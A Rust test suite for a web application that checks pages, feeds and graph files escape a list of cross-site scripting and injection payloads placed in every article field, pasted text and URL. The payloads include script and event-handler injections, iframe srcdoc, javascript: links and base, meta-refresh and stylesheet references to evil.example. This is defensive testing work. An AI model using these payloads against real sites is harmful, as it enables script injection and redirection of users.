//! Attacks in every field of an article, over every page: nothing of them becomes markup, script or an address of ours.
#![allow(clippy::unwrap_used, reason = "tests")]

mod site;

use html5ever::tokenizer::{
    BufferQueue, StartTag, Tag, TagToken, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use selon_text::{BlockKind, ByteRange, Document, Link};
use selon_web::App;
use site::{page, plain, read, with_articles};
use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet, VecDeque};

/// Each ends what it may stand in and begins something that acts.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "' autofocus onfocus='alert(3)",
    "</title></textarea></style></svg><script src=//evil.example/x.js></script>",
    "<svg/onload=alert(4)><animate onbegin=alert(5)>",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "<form action=//evil.example><button>x</button></form>",
    "\u{202e}<b onmouseover=alert(8)>\u{0}\u{1b}[31m",
    "<math><mtext></mtext><script>alert(9)</script></math>",
];

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let TagToken(tag) = token
            && tag.kind == StartTag
        {
            self.0.borrow_mut().push(tag);
        }
        TokenSinkResult::Continue
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(html.into());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

/// Elements that our pages have; an attack that gets through most likely is none of them.
const OURS: &str = "html head meta title link script body a header nav ul ol li form label input button main footer p h1 \
    h2 h3 textarea article section div span bdi details summary dl dt dd table caption thead tbody tr th \
    td select option svg g rect path circle text tspan line polyline polygon defs marker pattern time \
    mark del ins figure figcaption blockquote b i em strong small abbr code br hr fieldset legend desc \
    use symbol ellipse aside";

/// Looks at every tag of a page.
fn harmless(told: &str, html: &str) {
    let tags = tags(html);
    assert!(tags.len() > 20, "{told}: no page");
    for tag in tags {
        let name = tag.name.to_string();
        assert!(OURS.split(' ').any(|ours| ours == name), "{told}: <{name}>");
        for attribute in &tag.attrs {
            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
            assert!(!key.starts_with("on") && key != "style" && key != "srcdoc", "{told}: <{name} {key}={value}>");
            if ["href", "src", "action", "formaction"].contains(&key.as_str()) {
                let is_ours = value.starts_with('/') && !value.starts_with("//") || value.starts_with(['#', '?']);
                let outside = name == "a" && (value.starts_with("https://") || value.starts_with("http://"));
                assert!(is_ours || outside, "{told}: <{name} {key}={value}>");
            }
            if name == "meta" {
                assert_ne!(key, "http-equiv", "{told}");
            }
        }
        if name == "script" {
            let from =
                tag.attrs.iter().find(|attribute| &*attribute.name.local == "src").map(|src| src.value.to_string());
            assert!(from.is_some_and(|from| from.starts_with("/static/")), "{told}: a script of its own");
        }
    }
    assert!(!html.contains('\0') && !html.contains('\u{1b}'), "{told}: control characters");
}

/// An article with the attack in every field that it has.
fn article(number: usize, attack: &str) -> Document {
    let text = format!(
        "{attack}\n\nLe maire, {attack}, a déclaré que {attack} le pont fermerait. « {attack} la digue tient », a dit Maud Orvel {attack}.\n\n\
         Un responsable qui n'a pas voulu être nommé a démenti {attack}. Donc {attack} le pont est fini."
    );
    let (length, start) = (text.len(), attack.len() + 2);
    Document {
        title: Some(format!("{attack} a dit non")),
        authors: vec![attack.to_owned(), "Maud Orvel".to_owned()],
        outlet: Some(format!("Gazette {attack}")),
        url: Some(format!("javascript:alert({number})//{attack}")),
        file: Some(format!("/tmp/{attack}")),
        canonical: Some(attack.to_owned()),
        published: Some(format!("2031-02-03T08:00:00Z{attack}")),
        language: Some("fr".to_owned()),
        genre: Some(attack.to_owned()),
        translated_from: Some(attack.to_owned()),
        links: vec![Link { span: ByteRange::new(start, length.min(start + 8)), href: format!("javascript:{attack}") }],
        blocks: vec![selon_text::Block { span: ByteRange::new(start, length), kind: BlockKind::Quotation }],
        notes: vec![attack.to_owned()],
        sha256: format!("{number:064x}"),
        title_apart: true,
        ..Document::from_text(format!("n{number}{attack}"), text)
    }
}

/// Every address that the page links to on this server.
fn links(html: &str) -> Vec<String> {
    let tags = tags(html);
    let hrefs = tags.iter().filter(|tag| &*tag.name == "a").flat_map(|tag| &tag.attrs);
    let ours = hrefs.filter(|attribute| &*attribute.name.local == "href" && attribute.value.starts_with('/'));
    ours.map(|attribute| attribute.value.split('#').next().unwrap_or("").to_owned()).collect()
}

/// Follows every link from the first pages, each address once and of each kind some; looks at all that come. Gives how many of each there were.
fn walk(app: &App, from: &[String]) -> BTreeMap<String, usize> {
    let (mut waiting, mut seen, mut met) = (VecDeque::from(from.to_vec()), BTreeSet::new(), BTreeMap::new());
    while let Some(path) = waiting.pop_front() {
        let kind = kind(&path);
        if *met.get(&kind).unwrap_or(&0) >= OF_EACH || !seen.insert(path.clone()) {
            continue;
        }
        let answered = app.answer(site::get(&path)).unwrap();
        assert!(answered.status < 500, "{path}: {}", answered.status);
        *met.entry(kind).or_default() += 1;
        if answered.header("content-type").starts_with("text/html") {
            let html = answered.text();
            harmless(&path, &html);
            waiting.extend(links(&html));
        } else {
            harmless_file(&path, &answered);
        }
    }
    met
}

/// Pages of a kind that are looked at.
const OF_EACH: usize = 30;

/// `/claim/…`, `/claim/…/history.svg`: the address without what names one of them.
fn kind(path: &str) -> String {
    let path = path.split('?').next().unwrap_or(path);
    let (path, twin) = path.strip_suffix(".json").map_or((path, ""), |path| (path, ".json"));
    let named = ["document", "claim", "speaker", "outlet", "read"];
    let parts: Vec<&str> = path.split('/').skip(1).collect();
    let told = |(at, part): (usize, &&str)| {
        if at == 1 && named.contains(&parts[0]) { "/…".to_owned() } else { format!("/{part}") }
    };
    parts.iter().enumerate().map(told).chain([twin.to_owned()]).collect()
}

/// Elements of our drawings, feeds and graphs.
const IN_FILES: &str = "svg g a title desc defs marker rect path circle line polyline polygon text tspan style feed id \
    updated link generator entry author name category summary gexf meta creator description graph \
    attributes attribute nodes node edges edge attvalues attvalue spells spell keywords";

/// A twin is JSON; a drawing, feed or graph is XML of our elements, and leads to our own pages or to the web alone.
fn harmless_file(told: &str, answered: &selon_web::Answered) {
    assert_eq!(answered.header("x-content-type-options"), "nosniff", "{told}");
    let kind = answered.header("content-type");
    if kind == "application/json" {
        assert!(serde_json::from_slice::<serde_json::Value>(&answered.body).is_ok(), "{told}");
        return;
    }
    assert!(kind.contains("xml"), "{told}: {kind}");
    let is_feed = kind.starts_with("application/atom+xml");
    assert!(is_feed || answered.header("content-disposition").starts_with("attachment"), "{told}: shown, not saved");
    let text = answered.text();
    let document = roxmltree::Document::parse(&text).unwrap_or_else(|error| panic!("{told}: {error}: {text}"));
    for element in document.descendants().filter(roxmltree::Node::is_element) {
        let name = element.tag_name().name();
        assert!(IN_FILES.split(' ').any(|ours| ours == name), "{told}: <{name}>");
        for attribute in element.attributes() {
            let (key, value) = (attribute.name(), attribute.value());
            assert!(!key.starts_with("on") && key != "style", "{told}: <{name} {key}={value}>");
            if key == "href" {
                let begins: &[&str] =
                    if is_feed { &["http://127.0.0.1:8017/"] } else { &["/", "#", "http://", "https://"] };
                let is_ours = begins.iter().any(|begins| value.starts_with(begins)) && !value.starts_with("//");
                assert!(is_ours, "{told}: <{name} {key}={value}>");
            }
        }
    }
}

/// The kinds of pages and files that a walk has to meet.
const KINDS: &[&str] = &[
    "/",
    "/read",
    "/search",
    "/search.json",
    "/search/feed.atom",
    "/timeline",
    "/timeline/timeline.svg",
    "/document/…",
    "/document/….json",
    "/claim/…",
    "/claim/…/history.svg",
    "/claim/…/claim.gexf",
    "/speaker/…",
    "/outlet/…",
    "/graph",
    "/graph/graph.svg",
    "/graph/graph.gexf",
];

#[test]
fn attacks_in_every_field_stay_words_on_every_page() {
    let articles: Vec<Document> = ATTACKS.iter().enumerate().map(|(number, attack)| article(number, attack)).collect();
    let documents: Vec<String> = articles.iter().map(|article| address_of(&article.id)).collect();
    let (_folder, app) = with_articles(articles);
    let mut from = vec!["/".to_owned(), "/read".to_owned()];
    for document in &documents {
        let (status, html) = page(&app, document);
        assert_eq!(status, 200, "{document}");
        assert!(html.contains("class=\"mark"), "{document}: no statement to attack in");
        from.push(document.clone());
    }
    let met = walk(&app, &from);
    for kind in KINDS {
        assert!(met.contains_key(*kind), "no {kind}: {met:?}");
    }
    let graph: serde_json::Value = serde_json::from_str(&page(&app, "/graph.json").1).unwrap();
    let names = graph["nodes"].as_array().unwrap().iter().filter_map(|node| node["name"].as_str());
    let mut met = 0;
    for name in names.filter(|name| name.contains('<')) {
        for kind in ["speaker", "outlet"] {
            let path = format!("/{kind}/{}", encoded(name));
            let (status, html) = page(&app, &path);
            harmless(&path, &html);
            met += usize::from(status == 200);
        }
    }
    assert!(met > 5, "no names to attack in: {met}");
}

/// As `links::document` makes it.
fn address_of(id: &str) -> String {
    format!("/document/{}", encoded(id))
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// What templates put out as it is: pages in their frame, and drawings. All else is escaped.
const AS_IT_IS: &[&str] = &["drawing", "drawing", "drawing.svg", "main", "map"];

#[test]
fn nothing_else_is_put_out_as_it_is() {
    let mut found = Vec::new();
    for folder in ["templates", "templates/article"] {
        for entry in std::fs::read_dir(format!("{}/{folder}", env!("CARGO_MANIFEST_DIR"))).unwrap() {
            let Ok(template) = std::fs::read_to_string(entry.unwrap().path()) else { continue };
            let marked = template.split("{{").skip(1).filter_map(|rest| rest.split("}}").next());
            found.extend(marked.filter_map(|put| Some(put.split_once('|')?.0.trim().to_owned())));
            assert!(!template.contains("autoescape") && !template.contains("filter safe"), "{template}");
        }
    }
    found.sort();
    assert_eq!(found, AS_IT_IS);
}

#[test]
fn attacks_in_a_pasted_text_stay_words() {
    let app = plain();
    for attack in ATTACKS {
        // Control characters make a binary file of it, which is refused.
        let attack = attack.replace(char::is_control, "");
        let text = format!(
            "Un communiqué {attack}. Le maire a déclaré que {attack} le pont fermerait, a dit {attack} Maud Orvel."
        );
        let address = read(&app, &text);
        harmless(&address, &page(&app, &address).1);
    }
}

#[test]
fn attacks_in_the_address_stay_words() {
    let app = plain();
    for encoded in ATTACKS.iter().map(|attack| encoded(attack)) {
        for path in [
            format!("/{encoded}"),
            format!("/read/{encoded}?q={encoded}&lang={encoded}&look={encoded}"),
            format!("/document/{encoded}?speaker={encoded}&{encoded}={encoded}"),
        ] {
            let (status, html) = page(&app, &path);
            assert_eq!(status, 404, "{path}");
            harmless(&path, &html);
        }
    }
}
